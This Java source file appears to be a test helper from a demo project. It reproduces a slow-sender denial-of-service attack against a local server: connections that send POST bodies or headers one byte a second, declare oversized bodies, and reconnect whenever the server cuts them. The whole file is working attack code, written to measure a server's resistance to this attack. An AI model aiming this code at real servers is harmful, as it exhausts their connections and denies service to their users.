package io.postback.examples.demo;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Slow senders from one client address, as the attack of the issue: POSTs whose body comes one byte
 * a second (declared larger than the read limit, or small enough to be read), and requests whose
 * headers come one byte a second. Each connection the server cuts is opened again a second later,
 * as an attacker would. All sockets are non-blocking and driven by one thread, so that the attack
 * costs the test's machine little beside what it costs the server.
 */
final class SlowSenderAttack implements AutoCloseable {

    /** How each connection of the attack sends. */
    enum Kind {
        /** Declared far over the read limit, as in the issue: 5,000,000 bytes. */
        LARGE_BODY,
        /** Declared within the read limit, so that the server reads it: 1,000 bytes. */
        SMALL_BODY,
        /** Request line and headers a byte at a time, never finished. */
        SLOW_HEADERS
    }

    private static final int TICKS_PER_SECOND = 10;
    private static final String SLOW_HEADERS = "POST /api/site/click.json?token=12-abc&click=loris HTTP/1.1\r\nHost: 127.0.0.1\r\n";
    private static final String PADDING = "X-Pad: abcdefghijklmnopqrstuvwxyz\r\n";

    private final InetSocketAddress from;
    private final InetSocketAddress server;
    private final List<Slot> slots = new ArrayList<>();
    private final ScheduledExecutorService ticker = Executors.newSingleThreadScheduledExecutor(r -> {
        Thread thread = new Thread(r, "slow-sender-attack");
        thread.setDaemon(true);
        return thread;
    });
    private final ByteBuffer scratch = ByteBuffer.allocate(4096);
    private long tick;
    private final AtomicLong established = new AtomicLong();
    private final AtomicLong cut = new AtomicLong();
    private final AtomicLong bytesSent = new AtomicLong();

    /** What the attack did: connections it got, connections the server closed, bytes it sent. */
    record Figures(long established, long cut, long bytesSent) {
    }

    private SlowSenderAttack(String fromAddress, int port) {
        this.from = new InetSocketAddress(fromAddress, 0);
        this.server = new InetSocketAddress("127.0.0.1", port);
    }

    static SlowSenderAttack start(String fromAddress, int port, int largeBodies, int smallBodies, int slowHeaders) {
        SlowSenderAttack attack = new SlowSenderAttack(fromAddress, port);
        attack.add(Kind.LARGE_BODY, largeBodies);
        attack.add(Kind.SMALL_BODY, smallBodies);
        attack.add(Kind.SLOW_HEADERS, slowHeaders);
        attack.ticker.scheduleAtFixedRate(attack::tick, 0, 1_000 / TICKS_PER_SECOND, TimeUnit.MILLISECONDS);
        return attack;
    }

    private void add(Kind kind, int count) {
        for (int i = 0; i < count; i++) {
            slots.add(new Slot(kind));
        }
    }

    int connections() {
        return slots.size();
    }

    Figures figures() {
        return new Figures(established.get(), cut.get(), bytesSent.get());
    }

    /** Each slot steps once a second, the slots spread over the ticks of that second. */
    private void tick() {
        int phase = (int) (tick++ % TICKS_PER_SECOND);
        for (int i = phase; i < slots.size(); i += TICKS_PER_SECOND) {
            slots.get(i).step();
        }
    }

    @Override
    public void close() throws InterruptedException {
        ticker.shutdownNow();
        ticker.awaitTermination(10, TimeUnit.SECONDS);
        for (Slot slot : slots) {
            slot.drop();
        }
    }

    /** One connection of the attack, opened again when the server closes it. */
    private final class Slot {
        private final Kind kind;
        private SocketChannel channel;
        private boolean connected;
        private long sent;

        Slot(Kind kind) {
            this.kind = kind;
        }

        void step() {
            try {
                if (channel == null) {
                    open();
                } else if (!connected) {
                    if (channel.finishConnect()) {
                        connected = true;
                        established.incrementAndGet();
                        send(first());
                    }
                } else if (closedByServer()) {
                    cut.incrementAndGet();
                    drop();
                } else {
                    send(next());
                }
            } catch (IOException e) {
                // Refused, reset or closed by the server: a cut; the slot connects again on its next step.
                if (connected) {
                    cut.incrementAndGet();
                }
                drop();
            }
        }

        private void open() throws IOException {
            channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.bind(from);
            connected = channel.connect(server);
            sent = 0;
            if (connected) {
                established.incrementAndGet();
                send(first());
            }
        }

        /** The server's answer, if any, is read and dropped; the end of the stream is the server's close. */
        private boolean closedByServer() throws IOException {
            int n;
            do {
                scratch.clear();
                n = channel.read(scratch);
            } while (n > 0);
            return n < 0;
        }

        private String first() {
            return switch (kind) {
                case LARGE_BODY -> head(5_000_000);
                case SMALL_BODY -> head(1_000);
                case SLOW_HEADERS -> next();
            };
        }

        private String next() {
            if (kind != Kind.SLOW_HEADERS) {
                return "x";
            }
            long at = sent;
            return at < SLOW_HEADERS.length() ? SLOW_HEADERS.substring((int) at, (int) at + 1)
                    : PADDING.substring((int) ((at - SLOW_HEADERS.length()) % PADDING.length()),
                            (int) ((at - SLOW_HEADERS.length()) % PADDING.length()) + 1);
        }

        private String head(long contentLength) {
            return "POST /api/site/click.json?token=12-abc&click=slow HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                    + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " + contentLength + "\r\n\r\n";
        }

        private void send(String text) throws IOException {
            ByteBuffer bytes = ByteBuffer.wrap(text.getBytes(StandardCharsets.ISO_8859_1));
            int n = channel.write(bytes);
            sent += n;
            bytesSent.addAndGet(n);
        }

        void drop() {
            if (channel != null) {
                try {
                    channel.close();
                } catch (IOException e) {
                    // closing anyway
                }
            }
            channel = null;
            connected = false;
        }
    }
}
